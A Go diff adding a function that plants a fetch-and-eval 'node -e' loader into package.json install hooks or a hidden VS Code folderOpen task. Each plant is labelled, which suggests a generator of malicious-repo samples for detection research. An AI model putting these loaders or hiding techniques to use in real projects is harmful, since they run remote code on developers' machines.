@@ -330,3 +330,41 @@ func (g *gen) injectNpmrc() error {
 	g.mark(".npmrc", 2, OnInstall, false, "node-options --require")
 	return nil
 }
+
+// injectNodeEval puts a loader inline in a node -e command: an install
+// script of package.json, or a folderOpen task of type process.
+func (g *gen) injectNodeEval(l Location) error {
+	u := g.url()
+	code := fmt.Sprintf("fetch('%s').then((r) => r.text()).then((t) => eval(t)).catch(() => {})", u)
+	if g.rng.IntN(2) == 0 {
+		code = fmt.Sprintf("require('https').get('%s', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => { new Function('require', d)(require); }); })", strings.Replace(u, "http://", "https://", 1))
+	}
+	if l == VSCodeTasks {
+		g.variant = "task"
+		tasks := fmt.Sprintf(`{
+  "version": "2.0.0",
+  "tasks": [
+    {
+      "label": %q,
+      "type": "process",
+      "command": "node",
+      "args": ["-e", %q],
+      "presentation": { "reveal": "never", "echo": false },
+      "runOptions": { "runOn": "folderOpen" }
+    }
+  ]
+}
+`, g.pick([]string{"env", "eslint-check", "sync-settings"}), code)
+		g.repo[".vscode/tasks.json"] = tasks
+		g.mark(".vscode/tasks.json", lineOf(tasks, strings.Index(tasks, "\"args\"")), OnOpen, true, "node -e loader in a folderOpen task")
+		return nil
+	}
+	hook := g.pick([]string{"preinstall", "postinstall", "prepare"})
+	g.variant = hook
+	line, err := g.addScript(hook, "node -e \""+strings.ReplaceAll(code, `"`, `\"`)+"\"")
+	if err != nil {
+		return err
+	}
+	g.mark("package.json", line, OnInstall, true, hook+" runs a node -e loader")
+	return nil
+}
